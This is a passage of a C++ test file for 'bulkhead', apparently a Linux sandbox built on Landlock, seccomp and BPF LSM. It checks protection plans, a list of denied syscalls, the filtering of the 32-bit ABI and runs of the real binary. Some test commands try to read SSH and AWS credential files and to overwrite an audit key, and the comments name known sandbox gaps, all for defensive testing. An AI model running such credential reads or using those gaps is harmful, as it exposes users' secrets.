                  deny.grants[i].path + std::to_string(deny.grants[i].access));

    in_.ask_broker = true;
    auto held = plan_landlock(pol, in_, false);
    auto none = plan_landlock(KernelPolicy{}, in_, false);
    EXPECT_TRUE(held.gaps.empty()) << gaps_text(held.gaps);
    ASSERT_EQ(held.grants.size(), none.grants.size());
    for (size_t i = 0; i < none.grants.size(); ++i)
        EXPECT_EQ(held.grants[i].path + std::to_string(held.grants[i].access),
                  none.grants[i].path + std::to_string(none.grants[i].access));
}

// Execute is handled only when a rule denies running a program, so other
// policies leave execution as the system allows it; a program that does not
// exist yet costs nothing (it could appear under any name).
TEST_F(PlanTest, ExecRulesHandleExecuteAndReportTheLoaderGap) {
    std::ofstream(root_ / "home/tool") << "t";
    KernelPolicy key{{protection("Key", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}})}};
    auto without = plan_landlock(key, in_, false);
    EXPECT_FALSE(without.handled & ll::kExecute);

    KernelPolicy pol = key;
    pol.files.push_back(protection("Run tool", rules::kOpExec,
                                   {{TargetKind::kPath, "~/tool"}, {TargetKind::kPath, "~/missing/bin/sudo"}}));
    auto plan = plan_landlock(pol, in_, false);
    ASSERT_TRUE(plan.errors.empty()) << plan.errors[0];
    EXPECT_TRUE(plan.handled & ll::kExecute);
    EXPECT_EQ(gaps_text(plan.gaps),
              "  rule 'Run tool': executable mappings (ld.so PROGRAM): Landlock's execute right covers execve only; "
              "the dynamic loader can still map the program (bpf-lsm refuses mmap(PROT_EXEC) of it)\n");
    std::string tool = (root_ / "home/tool").string();
    bool tool_granted_exec = false, any_exec = false;
    for (const auto& g : plan.grants) {
        if (g.path == tool && (g.access & ll::kExecute))
            tool_granted_exec = true;
        any_exec |= (g.access & ll::kExecute) != 0;
    }
    EXPECT_FALSE(tool_granted_exec);
    EXPECT_TRUE(any_exec);  // everything else still runs
    // The missing program froze nothing: its would-be directory is not
    // enumerated, so the plan is as large as without it.
    pol.files.back().targets.pop_back();
    EXPECT_EQ(plan_landlock(pol, in_, false).grants.size(), plan.grants.size());
    EXPECT_EQ(plan_landlock(pol, in_, false).handled, plan.handled);
    EXPECT_TRUE(plan.handled & ll::kExecute);
}

TEST_F(PlanTest, ReportsHardLinksOfProtectedFiles) {
    ASSERT_EQ(::link((root_ / "home/.ssh/id_ed25519").c_str(), (root_ / "alias").c_str()), 0);
    KernelPolicy pol{{protection("Key", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}})}};
    auto plan = plan_landlock(pol, in_, false);
    ASSERT_EQ(plan.gaps.size(), 1u);
    EXPECT_EQ(plan.gaps[0].what, (root_ / "home/.ssh/id_ed25519").string());
    EXPECT_EQ(plan.gaps[0].why, "has 2 hard links: Landlock matches paths, so its other names are not protected");
}

TEST_F(PlanTest, GrantsFollowTheAllowListConstruction) {
    std::ofstream(root_ / "home/.ssh/known_hosts") << "h";
    fs::create_directories(root_ / "home/proj");
    KernelPolicy pol{{
        protection("Key", rules::kOpRead, {{TargetKind::kPattern, "~/.ssh/id_*"}}),
        protection("Rc", kWriteOps, {{TargetKind::kPath, "~/.bashrc"}}),
    }};
    auto plan = plan_landlock(pol, in_, false);
    ASSERT_TRUE(plan.errors.empty()) << plan.errors[0];
    std::map<std::string, uint64_t> g;
    for (const auto& x : plan.grants)
        g[x.path] = x.access;
    const uint64_t all = plan.handled;
    const uint64_t file_all = all & ll::kFileRights;
    std::string home = (root_ / "home").string();
    struct Case {
        std::string path;
        uint64_t access;
    } cases[] = {
        // On the path: nothing a protected object beneath must not have.
        {"/", all & ~(ll::kReadFile | ll::kWriteFile | ll::kTruncate | ll::kMakeAll | ll::kRemoveAll)},
        {home, all & ~(ll::kReadFile | ll::kWriteFile | ll::kTruncate | ll::kMakeAll | ll::kRemoveAll)},
        {home + "/.ssh", all & ~(ll::kReadFile | ll::kMakeAll)},
        // The protected file keeps what its rule does not deny.
        {home + "/.ssh/id_ed25519", file_all & ~ll::kReadFile},
        // Siblings: everything.
        {home + "/.ssh/known_hosts", file_all},
        {home + "/proj", all},
        {"/usr", all},
    };
    for (const auto& c : cases) {
        ASSERT_TRUE(g.count(c.path)) << c.path;
        EXPECT_EQ(access_names(g[c.path]), access_names(c.access)) << c.path;
    }
    EXPECT_FALSE(g.count(home + "/.bashrc"));  // missing: held by the home directory
}

TEST_F(PlanTest, BadInputIsAnErrorAndNeverWeakensTheRest) {
    std::string long_path = "/" + std::string(4095, 'a');
    std::string long_name = (root_ / "home").string() + "/" + std::string(300, 'n');
    KernelPolicy pol{{
        protection("Long path", rules::kOpRead, {{TargetKind::kPath, long_path}}),
        protection("Long name", rules::kOpRead, {{TargetKind::kPath, long_name}}),
        protection("Relative", rules::kOpRead, {{TargetKind::kPath, "etc/shadow"}}),
        protection("Two stars", rules::kOpRead, {{TargetKind::kPattern, "~/.ssh/*_*"}}),
        protection("Key", rules::kOpRead, {{TargetKind::kPath, "~/.ssh/id_ed25519"}}),
    }};
    auto plan = plan_landlock(pol, in_, false);
    ASSERT_EQ(plan.errors.size(), 4u);
    EXPECT_NE(plan.errors[0].find("rule 'Long path': target '/aaaa"), std::string::npos) << plan.errors[0];
    EXPECT_NE(plan.errors[0].find("longer than PATH_MAX"), std::string::npos);
    EXPECT_NE(plan.errors[1].find("rule 'Long name'"), std::string::npos) << plan.errors[1];
    EXPECT_NE(plan.errors[1].find("File name too long"), std::string::npos) << plan.errors[1];
    EXPECT_NE(plan.errors[2].find("is not an absolute path"), std::string::npos);
    EXPECT_NE(plan.errors[3].find("more than one '*'"), std::string::npos);
    // The good rule is still planned in full; and any error stops the session.
    bool key_planned = false;
    for (const auto& g : plan.grants)
        key_planned |= g.path == (root_ / "home/.ssh/id_ed25519").string() && !(g.access & ll::kReadFile);
    EXPECT_TRUE(key_planned);
    std::string err;
    Options o;
    o.homes = in_.homes;
    EXPECT_EQ(Sandbox::prepare(pol, o, &err), nullptr);
    EXPECT_NE(err.find("Long path"), std::string::npos) << err;
}

TEST(SessionHomes, MissingOrBadHomeIsAClearError) {
    std::string saved = getenv("HOME") ? getenv("HOME") : "";
    std::string err;
    setenv("HOME", "/nonexistent-bulkhead-home", 1);
    EXPECT_FALSE(session_homes(&err));
    EXPECT_EQ(err, "sandbox: HOME='/nonexistent-bulkhead-home' is not an existing directory: set HOME to "
                   "your home directory, or create it");
    setenv("HOME", ("/" + std::string(5000, 'h')).c_str(), 1);
    EXPECT_FALSE(session_homes(&err));
    EXPECT_NE(err.find("is not an absolute path under PATH_MAX"), std::string::npos);
    setenv("HOME", "relative/home", 1);
    EXPECT_FALSE(session_homes(&err));
    setenv("HOME", "/tmp/", 1);
    auto homes = session_homes(&err);
    ASSERT_TRUE(homes);
    EXPECT_NE(std::find(homes->begin(), homes->end(), "/tmp"), homes->end());
    EXPECT_NE(std::find(homes->begin(), homes->end(), "/root"), homes->end());
    setenv("HOME", saved.c_str(), 1);
}

// ---- seccomp ------------------------------------------------------------------

// Each denied syscall, called with arguments that fail harmlessly if the
// filter let it through (the tests run as root).
struct SyscallCase {
    const char* name;
    std::function<long()> call;
};

const std::vector<SyscallCase>& syscall_cases() {
    static const char* nowhere = "/nonexistent-bulkhead/x";
    static const std::vector<SyscallCase> cases = {
        {"bpf", [] { return syscall(SYS_bpf, -1, nullptr, 0); }},
        {"ptrace", [] { return syscall(SYS_ptrace, PTRACE_ATTACH, 0x3fffffff, 0, 0); }},
        {"ptrace", [] { return syscall(SYS_ptrace, PTRACE_SEIZE, 0x3fffffff, 0, 0); }},
        {"unshare", [] { return syscall(SYS_unshare, CLONE_NEWUSER); }},
        {"clone", [] {
             long r = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
             if (r == 0)
                 _exit(0);
             if (r > 0)
                 waitpid(static_cast<pid_t>(r), nullptr, 0);
             return r;
         }},
        {"clone3", [] { return syscall(SYS_clone3, nullptr, 0); }},
        {"setns", [] { return syscall(SYS_setns, -1, 0); }},
        {"mount", [] { return syscall(SYS_mount, "none", nowhere, "tmpfs", 0, nullptr); }},
        {"umount", [] { return 0L; }},  // 32-bit ABI only; see the int 0x80 test
        {"umount2", [] { return syscall(SYS_umount2, nowhere, 0); }},
        {"pivot_root", [] { return syscall(SYS_pivot_root, nowhere, nowhere); }},
        {"move_mount", [] { return syscall(SYS_move_mount, -1, "", -1, "", 0); }},
        {"open_tree", [] { return syscall(SYS_open_tree, -1, nowhere, 0); }},
        {"fsopen", [] { return syscall(SYS_fsopen, "nonexistent-fs", 0); }},
        {"fsconfig", [] { return syscall(SYS_fsconfig, -1, 0, nullptr, nullptr, 0); }},
        {"fsmount", [] { return syscall(SYS_fsmount, -1, 0, 0); }},
        {"fspick", [] { return syscall(SYS_fspick, -1, nowhere, 0); }},
        {"mount_setattr", [] { return syscall(SYS_mount_setattr, -1, nowhere, 0, nullptr, 0); }},
        {"kexec_load", [] { return syscall(SYS_kexec_load, 0, 0, nullptr, 0xffffffffUL); }},
        {"kexec_file_load", [] { return syscall(SYS_kexec_file_load, -1, -1, 0, nullptr, 0xffffffffUL); }},
        {"init_module", [] { return syscall(SYS_init_module, nullptr, 0, ""); }},
        {"finit_module", [] { return syscall(SYS_finit_module, -1, "", 0); }},
        {"delete_module", [] { return syscall(SYS_delete_module, "nonexistent_bulkhead", O_NONBLOCK); }},
        {"perf_event_open", [] { return syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0); }},
        {"keyctl", [] { return syscall(SYS_keyctl, -1, 0, 0, 0, 0); }},
        {"add_key", [] { return syscall(SYS_add_key, nullptr, nullptr, nullptr, 0, 0); }},
        {"request_key", [] { return syscall(SYS_request_key, nullptr, nullptr, nullptr, 0); }},
        {"userfaultfd", [] { return syscall(SYS_userfaultfd, 0xffff); }},
        {"open_by_handle_at", [] { return syscall(SYS_open_by_handle_at, -1, nullptr, 0); }},
        {"name_to_handle_at", [] { return syscall(SYS_name_to_handle_at, -1, nullptr, nullptr, nullptr, 0); }},
        {"iopl", [] { return syscall(SYS_iopl, 99); }},
        {"ioperm", [] { return syscall(SYS_ioperm, 0, 0, 0); }},
        {"swapon", [] { return syscall(SYS_swapon, nowhere, 0); }},
        {"swapoff", [] { return syscall(SYS_swapoff, nowhere); }},
        {"reboot", [] { return syscall(SYS_reboot, 0, 0, 0, nullptr); }},
        {"acct", [] { return syscall(SYS_acct, nowhere); }},
        {"quotactl", [] { return syscall(SYS_quotactl, 0, nullptr, 0, nullptr); }},
        {"fanotify_init", [] { return syscall(SYS_fanotify_init, 0xffffffffU, 0); }},
        {"syslog", [] { return syscall(SYS_syslog, -1, nullptr, 0); }},
        {"settimeofday", [] { return syscall(SYS_settimeofday, nullptr, nullptr); }},
        {"clock_settime", [] { return syscall(SYS_clock_settime, -1, nullptr); }},
        {"clock_adjtime", [] { return syscall(SYS_clock_adjtime, -1, nullptr); }},
        {"adjtimex", [] { return syscall(SYS_adjtimex, nullptr); }},
        {"sethostname", [] { return syscall(SYS_sethostname, nullptr, 100000); }},
        {"setdomainname", [] { return syscall(SYS_setdomainname, nullptr, 100000); }},
    };
    return cases;
}

// Runs every case in one child with the filter built for deny_errno
// (or none): "name#i" = errno name or OK.
Results syscall_answers(std::optional<int> deny_errno) {
    Options o;
    std::string err;
    std::unique_ptr<SeccompFilter> f;
    if (deny_errno)
        f = SeccompFilter::build(*deny_errno, &err);
    auto r = run_child({}, o, 0, [&](const auto&) {
        if (f && (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || f->load() != 0))
            return Results{{"error", "cannot load the filter"}};
        Results out;
        const auto& cases = syscall_cases();
        for (size_t i = 0; i < cases.size(); ++i)
            out[std::string(cases[i].name) + "#" + std::to_string(i)] = rc(cases[i].call());
        return out;
    }, nullptr, /* sandboxed = */ false);
    return r.results;
}

TEST(Seccomp, EveryDeniedSyscallHasATestCase) {
    const auto& cases = syscall_cases();
    ASSERT_EQ(cases.size(), denied_syscalls().size());
    for (size_t i = 0; i < cases.size(); ++i)
        EXPECT_STREQ(cases[i].name, denied_syscalls()[i].name);
}

TEST(Seccomp, EveryDeniedSyscallIsAnsweredByTheFilterWithEperm) {
    if (geteuid() != 0)
        GTEST_SKIP() << "run as root: the control run must reach the kernel with privileges";
    // A marker errno proves the filter answered (the kernel itself may say
    // EPERM to some of these calls); then the real filter says EPERM.
    auto bare = syscall_answers(std::nullopt);
    auto marked = syscall_answers(ENOTRECOVERABLE);
    auto real = syscall_answers(EPERM);
    ASSERT_EQ(marked.count("error"), 0u) << marked["error"];
    for (const auto& [name, answer] : marked) {
        if (name.rfind("umount#", 0) == 0)
            continue;
        if (name.rfind("clone3#", 0) == 0) {
            EXPECT_EQ(answer, "ENOSYS");
            EXPECT_EQ(real[name], "ENOSYS");
            EXPECT_NE(bare[name], "ENOSYS");
            continue;
        }
        EXPECT_EQ(answer, "ENOTRECOVERABLE") << name << " (without the filter: " << bare[name] << ")";
        EXPECT_EQ(real[name], "EPERM") << name;
        EXPECT_NE(bare[name], "ENOTRECOVERABLE") << name;
    }
}

TEST(Seccomp, WhatStaysAllowed) {
    if (geteuid() != 0)
        GTEST_SKIP() << "unsharing a UTS namespace needs root";
    std::string err;
    auto f = SeccompFilter::build(EPERM, &err);
    ASSERT_TRUE(f) << err;
    auto r = run_child({}, {}, 0, [&](const auto&) {
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || f->load() != 0)
            return Results{{"error", "cannot load the filter"}};
        Results out;
        out["nnp"] = std::to_string(prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
        out["unshare_uts"] = rc(unshare(CLONE_NEWUTS));
        std::thread t([] {});  // glibc's pthread_create falls back from clone3 to clone
        t.join();
        out["thread"] = "OK";
        pid_t c = fork();
        if (c == 0) {
            // A debugger that starts its program: the child asks to be traced.
            _exit(ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0 ? 0 : 1);
        }
        int st = 0;
        waitpid(c, &st, 0);
        out["traceme"] = WIFEXITED(st) && WEXITSTATUS(st) == 0 ? "OK" : "denied";
        return out;
    }, nullptr, false);
    ASSERT_EQ(r.results.count("error"), 0u) << r.raw;
    EXPECT_EQ(r.results["nnp"], "1");
    EXPECT_EQ(r.results["unshare_uts"], "OK");
    EXPECT_EQ(r.results["thread"], "OK");
    EXPECT_EQ(r.results["traceme"], "OK");
}

// int 0x80 from a 64-bit process enters the 32-bit x86 ABI (arguments in
// ebx, ecx, edx; the kernel truncates them to 32 bits and may zero r8-r15).
long int80(long nr, long a = 0, long b = 0, long c = 0) {
    long ret;
    asm volatile("int $0x80"
                 : "=a"(ret)
                 : "0"(nr), "b"(a), "c"(b), "d"(c)
                 : "memory", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15");
    return ret;
}

TEST(Seccomp, The32BitAbiIsFilteredToo) {
    // Probe in a child: without the 32-bit ABI, int 0x80 is a SIGSEGV.
    pid_t probe = fork();
    if (probe == 0)
        _exit(int80(20) == getpid() ? 0 : 1);  // __NR_getpid on i386
    int st = 0;
    waitpid(probe, &st, 0);
    if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        GTEST_SKIP() << "int 0x80 does not work on this host (IA32 emulation off or not virtualised)";
    std::string err;
    auto f = SeccompFilter::build(EPERM, &err);
    ASSERT_TRUE(f) << err;
    auto answers = [&](bool filtered) {
        return run_child({}, {}, 0, [&](const auto&) {
            if (filtered && (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || f->load() != 0))
                return Results{{"error", "cannot load the filter"}};
            return Results{
                {"unshare_newuser", std::to_string(int80(310, CLONE_NEWUSER))},
                {"bpf", std::to_string(int80(357, -1))},
                {"umount", std::to_string(int80(22, 0))},
                {"getpid", int80(20) == getpid() ? "OK" : "wrong"},
            };
        }, nullptr, false).results;
    };
    auto bare = answers(false);
    auto r = answers(true);
    ASSERT_EQ(r.count("error"), 0u) << r["error"];
    for (const char* k : {"unshare_newuser", "bpf", "umount"}) {
        EXPECT_EQ(r[k], std::to_string(-EPERM)) << k;
        EXPECT_NE(bare[k], std::to_string(-EPERM)) << k;
    }
    EXPECT_EQ(r["getpid"], "OK");
}

TEST(Seccomp, OtherAbisKillTheProcess) {
    std::string err;
    auto f = SeccompFilter::build(EPERM, &err);
    ASSERT_TRUE(f) << err;
    pid_t c = fork();
    if (c == 0) {
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 || f->load() != 0)
            _exit(3);
        syscall(0x40000000L | SYS_getpid);  // the x32 ABI
        _exit(0);
    }
    int st = 0;
    waitpid(c, &st, 0);
    ASSERT_TRUE(WIFSIGNALED(st)) << "exit " << WEXITSTATUS(st);
    EXPECT_EQ(WTERMSIG(st), SIGSYS);
}

// ---- levels, doctor and the real binary ---------------------------------------

TEST(Levels, AskedForAndMissingIsAnErrorNeverAFallback) {
    doctor::Report no_lsm;
    no_lsm.bpf_lsm_why = "bpf is not in the active LSM list (lockdown,capability,landlock)";
    no_lsm.landlock_abi = 7;
    no_lsm.seccomp = true;
    try {
        session::choose_level("bpf-lsm", no_lsm);
        FAIL() << "no error";
    } catch (const FatalError& e) {
        EXPECT_EQ(std::string(e.what()),
                  "run: --level bpf-lsm: BPF LSM is not active on this host: bpf is not in the active LSM list "
                  "(lockdown,capability,landlock); --level landlock contains the session with Landlock ABI 7 and "
                  "seccomp instead (see `bulkhead doctor`)");
        EXPECT_EQ(e.exit_code(), 2);
    }
    EXPECT_EQ(session::choose_level("auto", no_lsm).level, "landlock+seccomp");
    EXPECT_EQ(session::choose_level("landlock", no_lsm).level, "landlock+seccomp");

    doctor::Report bare = no_lsm;
    bare.landlock_abi = 0;
    try {
        session::choose_level("landlock", bare);
        FAIL() << "no error";
    } catch (const FatalError& e) {
        EXPECT_EQ(std::string(e.what()),
                  "run: --level landlock: Landlock is not available (add landlock to the lsm= kernel parameter) "
                  "(see `bulkhead doctor`)");
    }
    EXPECT_THROW(session::choose_level("auto", bare), FatalError);
    EXPECT_EQ(session::choose_level("observe", bare).level, "observe");

    doctor::Report lsm = no_lsm;
    lsm.bpf_lsm = true;
    EXPECT_EQ(session::choose_level("auto", lsm).level, "bpf-lsm");
    EXPECT_EQ(session::choose_level("landlock", lsm).level, "landlock+seccomp");
}

TEST(Doctor, StatesLevelTwoAndItsGaps) {
    auto r = doctor::examine();
    if (r.host_level != "landlock+seccomp")
        GTEST_SKIP() << "this host is at " << r.host_level;
    EXPECT_EQ(r.build_level, "landlock+seccomp");
    std::string text = doctor::to_text(r);
    EXPECT_NE(text.find("bulkhead enforces: landlock+seccomp (sessions started with `bulkhead run`)"),
              std::string::npos) << text;
    EXPECT_NE(text.find("Not enforced at this level"), std::string::npos) << text;
    EXPECT_NE(text.find("  rule 'Write git hook': **/.git/hooks/*: a name in any directory"), std::string::npos)
        << text;
}

std::string bulkhead_binary() {
    if (const char* b = getenv("BULKHEAD_BIN"))
        return b;
    return (fs::canonical("/proc/self/exe").parent_path().parent_path().parent_path() / "userspace/bulkhead")
        .string();
}

struct Shell {
    int exit_code = -1;
    std::string out;
};

Shell sh(const std::string& cmd) {
    Shell s;
    FILE* p = popen((cmd + " 2>&1").c_str(), "r");
    if (!p)
        return s;
    char buf[4096];
    size_t n;
    while ((n = fread(buf, 1, sizeof(buf), p)) > 0)
        s.out.append(buf, n);
    int st = pclose(p);
    s.exit_code = WIFEXITED(st) ? WEXITSTATUS(st) : -1;
    return s;
}

class RealBinary : public ::testing::TestWithParam<uid_t> {
protected:
    void SetUp() override {
        bin_ = bulkhead_binary();
        if (!fs::exists(bin_))
            GTEST_SKIP() << "no bulkhead binary at " << bin_ << " (set BULKHEAD_BIN)";
        if (geteuid() != 0)
            GTEST_SKIP() << "run as root: the test also runs the binary as nobody";
        if (doctor::probe().host_level != "landlock+seccomp")
            GTEST_SKIP() << "this host is not at landlock+seccomp";
        root_ = fs::path("/tmp") / ("bulkhead-run-" + std::to_string(getpid()));
        fs::create_directories(root_ / "home/.ssh");
        fs::create_directories(root_ / "home/.aws");
        fs::create_directories(root_ / "ws");
        std::ofstream(root_ / "home/.ssh/id_ed25519") << kSshSecret;
        std::ofstream(root_ / "home/.aws/credentials") << kAwsSecret;
        std::ofstream(root_ / "ws/readme") << "workspace file";
        for (auto& e : fs::recursive_directory_iterator(root_))
            ::chmod(e.path().c_str(), e.is_directory() ? 0777 : 0666);
        ::chmod(root_.c_str(), 0777);
        prefix_ = "cd " + (root_ / "ws").string() + " && " +
                  (GetParam() ? "setpriv --reuid=65534 --regid=65534 --clear-groups " : std::string()) +
                  "env HOME=" + (root_ / "home").string() + " " + bin_ + " --socket /nonexistent/bulkhead.sock run ";
    }
    void TearDown() override {
        std::error_code ec;
        if (!root_.empty())
            fs::remove_all(root_, ec);
    }
    std::string bin_, prefix_;
    fs::path root_;
};

TEST_P(RealBinary, RunContainsTheSessionWithoutADaemon) {
    auto s = sh(prefix_ + "--level landlock -- sh -c '"
                "cat ~/.ssh/id_ed25519; echo ssh=$?; cat ~/.aws/credentials; echo aws=$?; cat readme; echo; "
                "unshare -U true; echo unshare=$?; echo made > new && cat new'");
    EXPECT_EQ(s.exit_code, 0) << s.out;
    EXPECT_EQ(s.out.find(kSshSecret), std::string::npos) << s.out;
    EXPECT_EQ(s.out.find(kAwsSecret), std::string::npos) << s.out;
    for (const char* want : {"ssh=1", "aws=1", "workspace file", "unshare=1", "made",
                             "id_ed25519: Permission denied", "credentials: Permission denied",
                             "unshare failed: Operation not permitted",
                             "bulkhead: level landlock+seccomp: requested with --level landlock",
                             "bulkhead: enforced by Landlock ABI",
                             "bulkhead: no daemon at /nonexistent/bulkhead.sock: no events are recorded",
                             "bulkhead: not enforced at this level (",
                             "  rule 'Write git hook': **/.git/hooks/*: a name in any directory"})
        EXPECT_NE(s.out.find(want), std::string::npos) << want << "\n" << s.out;
}

// bulkhead's own state where the configuration puts it, outside the
// directories the shipped rule names: the audit signing key cannot be read
// or replaced, the config cannot be rewritten, and a file beside them stays
// usable.
TEST_P(RealBinary, ConfiguredStateIsProtectedWhereverItIs) {
    fs::create_directories(root_ / "state");
    std::ofstream(root_ / "state/audit.key") << "BULKHEAD-SECRET-AUDIT-KEY";
    std::ofstream(root_ / "state/notes") << "a neighbour";
    std::string cfg = (root_ / "state/bulkhead.yaml").string();
    std::ofstream(cfg) << "exporters:\n  - {name: a, type: audit, path: " << (root_ / "state/audit.jsonl").string()
                       << ", secret_key: " << (root_ / "state/audit.key").string() << "}\n"
                       << "spool_root: " << (root_ / "spool").string() << "\n";
    for (auto& e : fs::recursive_directory_iterator(root_ / "state"))
        ::chmod(e.path().c_str(), 0666);
    ::chmod((root_ / "state").c_str(), 0777);
    auto s = sh(prefix_ + "--level landlock --config " + cfg + " -- sh -c '"
                "cat " + (root_ / "state/audit.key").string() + "; echo key=$?; "
                "echo forged > " + (root_ / "state/audit.key").string() + "; echo replace=$?; "
                "echo \"rules: []\" >> " + cfg + "; echo config=$?; "
                "cat " + (root_ / "state/notes").string() + "; echo; echo notes=$?'");
    EXPECT_EQ(s.exit_code, 0) << s.out;
    EXPECT_EQ(s.out.find("BULKHEAD-SECRET-AUDIT-KEY"), std::string::npos) << "LEAK:\n" << s.out;
    for (const char* want : {"key=1", "replace=2", "config=2", "a neighbour", "notes=0",
                             "audit.key: Permission denied", "bulkhead.yaml: Permission denied"})
        EXPECT_NE(s.out.find(want), std::string::npos) << want << "\n" << s.out;
    std::ifstream key(root_ / "state/audit.key");
    std::string content((std::istreambuf_iterator<char>(key)), {});
    EXPECT_EQ(content, "BULKHEAD-SECRET-AUDIT-KEY");
}

TEST_P(RealBinary, ObserveRunsUnenforcedAndSaysSo) {
    auto s = sh(prefix_ + "--level observe -- cat " + (root_ / "home/.ssh/id_ed25519").string());
    EXPECT_EQ(s.exit_code, 0) << s.out;
    EXPECT_NE(s.out.find("bulkhead: level observe: requested with --level observe: nothing is enforced"),
              std::string::npos) << s.out;
    EXPECT_NE(s.out.find(kSshSecret), std::string::npos);
}

TEST_P(RealBinary, MissingLevelAndBadHomeAreErrors) {
    auto s = sh(prefix_ + "--level bpf-lsm -- true");
    EXPECT_EQ(s.exit_code, 2) << s.out;
    EXPECT_NE(s.out.find("bulkhead: run: --level bpf-lsm: BPF LSM is not active on this host"), std::string::npos)
        << s.out;
    std::string bad_home = prefix_;
    bad_home.replace(bad_home.find("HOME=") + 5, (root_ / "home").string().size(), "/nonexistent-home");
    s = sh(bad_home + "-- true");
    EXPECT_EQ(s.exit_code, 2) << s.out;
    EXPECT_NE(s.out.find("bulkhead: run: sandbox: HOME='/nonexistent-home' is not an existing directory"),
              std::string::npos) << s.out;
}

INSTANTIATE_TEST_SUITE_P(AsRootAndNobody, RealBinary, ::testing::Values(uid_t{0}, kNobody),
                         [](const auto& info) { return info.param == 0 ? std::string("root") : "nobody"; });

}  // namespace
}  // namespace bulkhead::sandbox
